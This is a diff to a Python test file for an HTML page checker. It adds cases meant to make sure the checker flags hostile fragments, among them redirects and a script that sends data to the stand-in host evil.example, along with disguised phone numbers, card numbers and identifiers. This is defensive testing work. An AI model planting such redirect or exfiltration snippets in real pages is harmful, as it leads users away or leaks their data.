@@ -137,8 +137,8 @@ class _Index:
     ],
 )
 def test_a_customer_number_that_ingest_saw(tmp_path, body):
-    assert failed(tmp_path, page(body)) == set()
-    assert failed(tmp_path, page(body), ids=_Index()) == {"PAGE-7"}
+    assert "PAGE-7" not in failed(tmp_path, page(body))
+    assert "PAGE-7" in failed(tmp_path, page(body), ids=_Index())
 
 
 @pytest.mark.parametrize("spell", [bytes.hex, lambda k: k.hex().upper(), base64.b64encode])
@@ -152,3 +152,48 @@ def test_a_key_of_the_house(tmp_path, spell):
     ):
         assert "PAGE-6" in failed(tmp_path, page(body), secrets=(key,))
     assert failed(tmp_path, page("<p>fine</p>"), secrets=(key,)) == set()
+
+
+# Found by attacking the page after it was redrawn: each passed before.
+ATTACKS = {
+    "navigation without a click": (
+        '<meta http-equiv="refresh" content="0;url=//evil.example/x"><p>x</p>',
+        "PAGE-3",
+    ),
+    "refresh to itself": ('<meta http-equiv="Refresh" content="5"><p>x</p>', "PAGE-3"),
+    "code that leads away": ("<p>x</p><script>location='//evil.example/?'+x</script>", "PAGE-3"),
+    "a backslash for a slash": ('<a href="/\\evil.example/x">y</a>', "PAGE-3"),
+    "an image within a drawing": (
+        '<svg><image xlink:href="//evil.example/x.png"/></svg><p>x</p>',
+        "PAGE-3",
+    ),
+    "a phone cut by tags": ("<p>138<b></b>0013<i></i>8000</p>", "PAGE-2"),
+    "a phone cut by a remark": ("<td>138<!-- -->00138000</td>", "PAGE-2"),
+    "a phone in a style": ('<p style="--x:13800138000">x</p>', "PAGE-2"),
+    "an address in a style": ("<p style=\"--x:'li@example.com'\">x</p>", "PAGE-2"),
+    "a card as a width": ('<img width="4111111111111111"><p>x</p>', "PAGE-2"),
+    "a pseudonym in capitals": ("<p>5F0C9A34-8D1E-4B7A-9C55-0A7BE1F2D3C4</p>", "PAGE-5"),
+    "a pseudonym without dashes": ("<p>5f0c9a348d1e4b7a9c550a7be1f2d3c4</p>", "PAGE-5"),
+    "a pseudonym cut by a tag": ("<p>5f0c9a34-<b>8d1e-4b7a-9c55-0a7be1f2d3c4</b></p>", "PAGE-5"),
+}
+
+
+@pytest.mark.parametrize("name", ATTACKS)
+def test_an_attack_on_the_page(tmp_path, name):
+    body, check = ATTACKS[name]
+    assert check in failed(tmp_path, page(body))
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        # Two figures beside one another are no phone; neither are widths and remarks in code.
+        "<table><tr><td>138</td><td>00138000</td></tr></table>",
+        '<div>138</div><div>00138000</div><p style="width:37.12345678901234%">x</p>',
+        "<script>// evil.example is not called\nvar a = /\\d+/, b = 'a//b';</script><p>x</p>",
+        '<p title="either // or">x</p><rect width="300.00000000001" height="20"/>',
+        "<p>5f0c9a348d1e4b7a9c550a7be1f2d3c45f0c9a348d1e4b7a9c550a7be1f2d3c4</p>",
+    ],
+)
+def test_what_only_looks_like_one(tmp_path, body):
+    assert failed(tmp_path, page(body)) == set()
